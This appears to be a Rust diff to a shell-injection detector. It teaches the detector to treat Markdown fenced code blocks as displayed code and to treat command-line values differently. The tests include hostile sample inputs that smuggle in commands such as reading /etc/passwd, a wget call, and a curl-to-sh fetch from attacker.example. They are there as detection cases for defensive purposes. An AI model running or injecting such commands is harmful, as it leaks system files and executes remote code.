@@ -412,6 +412,7 @@ fn separators(
     static FENCE: std::sync::LazyLock<memchr::memmem::Finder<'static>> =
         std::sync::LazyLock::new(|| memchr::memmem::Finder::new(b"```"));
     let fenced = FENCE.find(b).is_some();
+    let mut fences = Fences::default();
     // Whether the current line is one the shell rejects whole (see `starts_with_pipe`).
     let mut dead_line = false;
     while i < b.len() {
@@ -447,9 +448,7 @@ fn separators(
                 escaped = i;
             } else if open == b'"' && c == b'`' && b.get(i + 1) == Some(&b'`') {
                 // A Markdown fence, never a substitution.
-                while i < b.len() && b[i] == b'`' {
-                    i += 1;
-                }
+                i = past_fence(b, i, strict, &mut fences);
                 continue;
             } else if open == b'"' && (c == b'`' || c == b'(' && opened_by(i, escaped, b"$")) {
                 let at = if c == b'`' { i } else { i - 1 };
@@ -525,9 +524,7 @@ fn separators(
             b'(' if opened_by(i, escaped, b"<>") => (Sep::Hard, i - 1),
             b'`' => {
                 if b.get(i + 1) == Some(&b'`') {
-                    while i < b.len() && b[i] == b'`' {
-                        i += 1;
-                    }
+                    i = past_fence(b, i, strict, &mut fences);
                     continue;
                 }
                 // A code span in Markdown has space or punctuation outside its backticks; a
@@ -570,6 +567,48 @@ fn starts_with_pipe(b: &[u8], from: usize) -> bool {
     b.get(from..)
         .and_then(|rest| rest.iter().find(|&&c| !matches!(c, b' ' | b'\t' | b'\r')))
         == Some(&b'|')
+}
+
+/// Where closing Markdown fences were looked for: once a search from some position found
+/// none, no later one can, and it is not made again (a value of unclosed fences stays
+/// linear).
+#[derive(Default)]
+struct Fences {
+    none_after: Option<usize>,
+}
+
+/// Past the run of backticks at `i`, and past the whole fenced code block when the run opens
+/// one (three or more at the start of a line, closed by a run as long at the start of a
+/// later line): in Markdown that is code shown, not run, unless the field is known to reach
+/// a shell. An unclosed fence is only its backticks.
+fn past_fence(b: &[u8], i: usize, strict: bool, fences: &mut Fences) -> usize {
+    let run = b[i..].iter().take_while(|&&c| c == b'`').count();
+    let after = i + run;
+    if strict || run < 3 || !at_line_start(b, i) || fences.none_after.is_some_and(|p| after >= p) {
+        return after;
+    }
+    static FENCE: std::sync::LazyLock<memchr::memmem::Finder<'static>> =
+        std::sync::LazyLock::new(|| memchr::memmem::Finder::new(b"```"));
+    let mut from = after;
+    while let Some(p) = FENCE.find(&b[from..]) {
+        let close = from + p;
+        let close_run = b[close..].iter().take_while(|&&c| c == b'`').count();
+        if close_run >= run && at_line_start(b, close) {
+            return close + close_run;
+        }
+        from = close + close_run;
+    }
+    fences.none_after = Some(after);
+    after
+}
+
+/// Whether only blanks come before `i` on its line (a few: Markdown indents fences in lists).
+fn at_line_start(b: &[u8], i: usize) -> bool {
+    let mut k = i;
+    while k > 0 && i - k < 16 && matches!(b[k - 1], b' ' | b'\t') {
+        k -= 1;
+    }
+    k == 0 || b[k - 1] == b'\n'
 }
 
 /// Whether the backtick at `i` is glued to a word before it (`a`id`b`): a substitution, where
@@ -963,8 +1002,10 @@ fn in_context_reading(
         let fits = fits || sep == Sep::Substitution && shape != Shape::Dangerous;
         let counts = fits
             && match sep {
+                // A value that is itself a command line (documentation, a CI step) runs its
+                // own substitutions: only what no documented command does counts there.
+                Sep::Substitution | Sep::Hard if command_line => dangerous_shape,
                 Sep::Substitution => true,
-                Sep::Hard if command_line => dangerous_shape,
                 Sep::Hard => true,
                 Sep::Soft => {
                     unmistakable
@@ -1159,6 +1200,7 @@ mod tests {
         let whole_backticks =
             trimmed.len() > 2 && trimmed.starts_with('`') && trimmed.ends_with('`');
         let fenced = memchr::memmem::find(b, b"```").is_some();
+        let mut fences = Fences::default();
         let mut dead_line = false;
         while i < b.len() {
             // Most bytes mean nothing to the shell: skip them in a tight loop.
@@ -1192,9 +1234,7 @@ mod tests {
                     i += 1;
                 } else if open == b'"' && c == b'`' && b.get(i + 1) == Some(&b'`') {
                     // A Markdown fence, never a substitution.
-                    while i < b.len() && b[i] == b'`' {
-                        i += 1;
-                    }
+                    i = past_fence(b, i, strict, &mut fences);
                     continue;
                 } else if open == b'"' && (c == b'`' || c == b'$' && b.get(i + 1) == Some(&b'(')) {
                     let len = if c == b'`' { 1 } else { 2 };
@@ -1259,9 +1299,7 @@ mod tests {
                 b'<' | b'>' if b.get(i + 1) == Some(&b'(') => (Sep::Hard, 2),
                 b'`' => {
                     if b.get(i + 1) == Some(&b'`') {
-                        while i < b.len() && b[i] == b'`' {
-                            i += 1;
-                        }
+                        i = past_fence(b, i, strict, &mut fences);
                         continue;
                     }
                     // A code span in Markdown has space or punctuation outside its backticks; a
@@ -1495,6 +1533,12 @@ mod tests {
             // Inside double quotes, backticks glued to a word or wrapping the value still run.
             "a\"b`id`",
             "x \"`wget attacker.example/x`\"",
+            // A fence that does not close, or not at the start of a line, hides nothing.
+            "```\nx; cat /etc/passwd",
+            "x ```; cat /etc/passwd```",
+            "```\nok\n``` ; cat /etc/passwd",
+            // What a documented command line does not do.
+            "aws s3 ls $(curl -s http://attacker.example/x | sh)",
         ] {
             assert!(hit(v), "missed: {v}");
         }
@@ -1533,6 +1577,10 @@ mod tests {
             // A stray quote: the code spans after it are still Markdown, not substitutions.
             "Open `http://localhost:9999/' in a browser.\nThen run `npm install` and `npm run dev`.",
             "He said \"run `npm install` first\", and it worked",
+            // Fenced code blocks are code shown (indented in a list, too).
+            "1. Deploy:\n   ```bash\n   export ARN=$(aws cloudformation describe-stacks --query 'x' --output text)\n   curl -X POST \"$URL\" | jq .\n   ```\n2. Done; check the logs.",
+            // A value that is a command line runs its own substitutions.
+            "aws lambda invoke --function-name $(aws cloudformation describe-stacks --query x --output text) out.json",
         ] {
             assert!(
                 !hit(v),
@@ -1546,6 +1594,7 @@ mod tests {
     fn strict_fields_take_any_command() {
         assert!(detect("x; frobnicate", Strictness::Sink).is_some());
         assert!(detect("x; frobnicate", Strictness::Generic).is_none());
+        assert!(detect("```\nx; cat /etc/passwd\n```", Strictness::Sink).is_some());
         // A field known to reach a shell: a code span inside double quotes runs.
         assert!(detect("x \"run `id` now\"", Strictness::Sink).is_some());
     }
